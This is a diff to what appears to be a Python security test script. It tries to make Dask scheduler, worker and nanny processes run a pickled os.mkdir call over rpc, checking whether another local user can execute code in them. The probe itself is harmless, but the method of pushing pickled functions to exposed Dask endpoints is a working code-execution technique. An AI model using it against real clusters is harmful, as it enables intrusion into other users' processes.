@@ -16,6 +16,8 @@ from distributed.core import rpc
 from distributed.protocol.pickle import dumps
 from distributed.security import Security
 
+NOBODY_THERE = "127.0.0.1:1"
+
 OPERATION = {"scheduler": "run_function", "worker": "run", "nanny": "run"}
 """By which Dask itself runs a function in each of its processes."""
 
@@ -50,16 +52,18 @@ WAYS = {
 }
 
 
-async def attack(address: str, kind: str, way: str, marker: str) -> None:
+async def attack(address: str, kind: str, way: str, marker: str, seconds: float = 4.0) -> None:
     protocol, arguments = WAYS[way]()
-    there = rpc(f"{protocol}://{address}", connection_args=arguments, timeout=4)
+    there = rpc(f"{protocol}://{address}", connection_args=arguments, timeout=seconds)
     try:
         await asyncio.wait_for(
             getattr(there, OPERATION[kind])(
                 function=dumps(os.mkdir), args=dumps((marker,)), kwargs=dumps({}), wait=True
             ),
-            timeout=6,
+            timeout=seconds + 2.0,
         )
+    except ImportError:
+        raise  # an attacker that cannot attack would prove nothing
     except Exception as error:
         print(f"{kind} {way}: {type(error).__name__}: {str(error)[:100]}")
     finally:
@@ -70,6 +74,8 @@ async def main() -> None:
     user, folder, *targets = sys.argv[1:]
     ways = {way: WAYS[way]() for way in WAYS}  # made before the user is another
     WAYS.update({way: (lambda made=made: made) for way, made in ways.items()})
+    # Dask imports at its first connection, and another user may not be able to read its files.
+    await asyncio.gather(*(attack(NOBODY_THERE, "worker", way, folder, 0.1) for way in WAYS))
     if int(user) != os.getuid():
         os.setgroups([])
         os.setgid(int(user))
